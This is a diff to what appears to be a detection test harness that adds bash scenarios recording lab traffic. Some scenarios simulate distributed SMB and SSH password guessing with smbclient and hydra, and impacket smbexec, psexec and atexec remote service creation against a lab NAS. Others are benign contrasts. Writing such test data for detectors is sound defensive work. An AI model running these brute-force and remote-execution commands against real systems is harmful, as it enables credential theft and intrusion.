@@ -3574,6 +3574,87 @@ scn_benign_lldp_two_ports_default_names() {
 	wait $a $b $c || true
 	lldp_unlab
 }
+# Session 38 (det38a): password guessing spread over ten hosts (review 37a
+# slow_brute_distributed_smb): h100-h109 each try administrator's password
+# on the NAS's Samba five times, 8 s apart (under 20 a minute each): 50
+# STATUS_LOGON_FAILURE for one account from ten clients. One brute_force,
+# the NAS the target, the ten hosts listed.
+smb_wait() { local i; for i in $(seq 50); do inns nas ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done; }
+smb_stop() { local p; for p in $(ip netns pids "$P-nas"); do grep -qa smbd /proc/$p/cmdline 2>/dev/null && kill "$p"; done; true; }
+scn_smb_guessing_distributed_smbclient() {
+	start_smbd; smb_wait
+	local r i bp=()
+	for r in 1 2 3 4 5; do
+		for i in $(seq 100 109); do
+			(sleep "0.$((i - 100))"; inns "h$i" timeout 15 smbclient -L "//$nas" -s "$tmp/smb.conf" -U "LAB/administrator%Pw${r}x$i" -m SMB3 >/dev/null 2>&1) & bp+=($!)
+		done
+		sleep 8
+	done
+	wait "${bp[@]}" || true
+	smb_stop
+}
+# The same over SSH (review 37a slow_brute_distributed): h100-h109 each run
+# hydra -t 1 with one password against the NAS's OpenSSH four times, 15 s
+# apart (two sessions a try, each ending in the authentication phase).
+scn_ssh_guessing_distributed_hydra() {
+	start_services
+	local r i bp=()
+	for r in 1 2 3 4; do
+		for i in $(seq 100 109); do
+			(sleep "0.$((i - 100))"; cd "$tmp" && inns "h$i" timeout 14 hydra -l admin -p "Pw${r}x$i" -t 1 -I "ssh://$nas" >/dev/null 2>&1) & bp+=($!)
+		done
+		sleep 15
+	done
+	wait "${bp[@]}" || true
+	stop_services
+}
+# Benign: a Monday morning on the NAS: thirty users (h100-h129) each
+# mistype their password once and log on at the second try (the share's
+# user), and the backup server (pc2) retries a stale password every 5 s,
+# twelve times (a single client under 20 a minute). No distributed
+# guessing.
+scn_benign_smb_mistypes_morning() {
+	start_smbd; smb_wait
+	local i bp=()
+	for i in $(seq 100 129); do
+		(sleep "$(( (i - 100) % 10 )).$((i % 7))"; inns "h$i" timeout 15 smbclient -L "//$nas" -s "$tmp/smb.conf" -U "LAB/user$i%Wrong$i" -m SMB3 >/dev/null 2>&1
+			inns "h$i" timeout 15 smbclient "//$nas/data" -s "$tmp/smb.conf" -U 'root%Backup-2026' -m SMB3 -c ls >/dev/null 2>&1) & bp+=($!)
+	done
+	for i in $(seq 12); do inns pc2 timeout 15 smbclient "//$nas/data" -s "$tmp/smb.conf" -U 'LAB/backupsvc%Old-2025' -m SMB3 -c ls >/dev/null 2>&1; sleep 5; done
+	wait "${bp[@]}" || true
+	smb_stop
+}
+# Remote service creation over SMB (review 37a lateral_exec, Samba with
+# SMB encryption off so the RPC is in clear as on an unencrypting Windows
+# server): impacket smbexec.py (svcctl OpenSCManagerW, CreateServiceW,
+# StartServiceW on \svcctl), psexec.py (uploads to ADMIN$, then the same)
+# and atexec.py (\atsvc, ITaskSchedulerService SchRpcRegisterTask) from .66
+# against the NAS with root's password. Samba refuses the creation; the
+# requests are the attack.
+start_smbd_exec() {
+	start_smbd; smb_wait; smb_stop; sleep 1
+	mkdir -p "$tmp/admin"; chmod 777 "$tmp/admin"
+	sed -i 's/^server min protocol = SMB2$/server min protocol = SMB2\nserver smb encrypt = off/' "$tmp/smb.conf"
+	printf '[ADMIN$]\npath = %s\nread only = no\n' "$tmp/admin" >>"$tmp/smb.conf"
+	spawn nas smbd -F -s "$tmp/smb.conf"; smb_wait
+}
+scn_smb_remote_exec_impacket() {
+	start_smbd_exec
+	local ex=/usr/share/doc/python3-impacket/examples
+	echo whoami | inns evil timeout 30 "$py" $ex/smbexec.py "root:Backup-2026@$nas" || true
+	inns evil timeout 30 "$py" $ex/psexec.py "root:Backup-2026@$nas" whoami </dev/null || true
+	inns evil timeout 30 "$py" $ex/atexec.py "root:Backup-2026@$nas" whoami </dev/null || true
+	smb_stop
+}
+# Benign: an administrator's workstation (pc2) lists the NAS's services and
+# asks one's status with Samba's net rpc (svcctl OpenSCManagerW,
+# EnumServicesStatusW, QueryServiceStatus): management, no service created.
+scn_benign_net_rpc_service_list() {
+	start_smbd_exec
+	inns pc2 timeout 30 net rpc service list -S "$nas" -U 'root%Backup-2026' -s "$tmp/smb.conf" || true
+	inns pc2 timeout 30 net rpc service status smbd -S "$nas" -U 'root%Backup-2026' -s "$tmp/smb.conf" || true
+	smb_stop
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
